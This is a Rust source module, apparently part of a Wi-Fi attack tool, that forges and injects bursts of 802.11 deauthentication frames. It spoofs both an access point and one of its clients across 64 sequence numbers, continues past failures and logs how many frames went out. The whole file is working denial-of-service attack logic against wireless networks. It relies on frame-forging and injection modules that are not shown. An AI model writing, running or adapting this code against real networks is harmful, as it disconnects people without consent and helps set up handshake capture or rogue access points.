//! Deauthentication bursts between an access point and one of its stations.

use std::thread;
use std::time::Duration;

use pnet::util::MacAddr;

use crate::packet::forge::{ForgeRequest, FrameForger};
use crate::pcap::FrameInjector;

/// Sequence numbers 0..BURST_SEQUENCES are used once per direction.
pub const BURST_SEQUENCES: u16 = 64;

/// Outcome of one or more bursts.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct BurstStats {
    pub attempted: u32,
    pub sent: u32,
    pub failed: u32,
}

impl BurstStats {
    pub fn merge(&mut self, other: &BurstStats) {
        self.attempted += other.attempted;
        self.sent += other.sent;
        self.failed += other.failed;
    }
}

/// Forge and transmit one frame, pausing for `delay` after a successful send.
///
/// Returns whether the frame went out.
fn send_one(
    injector: &mut dyn FrameInjector,
    forger: &dyn FrameForger,
    request: &ForgeRequest,
    delay: Duration,
    stats: &mut BurstStats,
) -> bool {
    stats.attempted += 1;

    let frame = match forger.forge(request) {
        Ok(frame) => frame,
        Err(e) => {
            tracing::error!("Could not create deauth packet: {}", e);
            stats.failed += 1;
            return false;
        }
    };

    match injector.inject(&frame) {
        Ok(()) => {
            stats.sent += 1;
            if !delay.is_zero() {
                thread::sleep(delay);
            }
            true
        }
        Err(e) => {
            tracing::error!("Could not send deauth packet: {}", e);
            stats.failed += 1;
            false
        }
    }
}

/// Send up to `2 * BURST_SEQUENCES` forged deauthentication frames.
///
/// For every sequence number one frame spoofs the access point towards the
/// client and one spoofs the client towards the access point. When the first
/// of the pair fails, the burst moves on to the next sequence number without
/// sending its partner. A failure never ends the burst.
pub fn send_deauth_burst(
    injector: &mut dyn FrameInjector,
    forger: &dyn FrameForger,
    ap: MacAddr,
    client: MacAddr,
    delay: Duration,
) -> BurstStats {
    let mut stats = BurstStats::default();

    for seq in 0..BURST_SEQUENCES {
        let from_ap = ForgeRequest::deauth(client, ap, ap, seq);
        if !send_one(injector, forger, &from_ap, delay, &mut stats) {
            continue;
        }

        let from_client = ForgeRequest::deauth(ap, client, ap, seq);
        send_one(injector, forger, &from_client, delay, &mut stats);
    }

    tracing::debug!(
        "Deauth burst {} <-> {}: {}/{} frames sent",
        ap,
        client,
        stats.sent,
        stats.attempted
    );
    stats
}
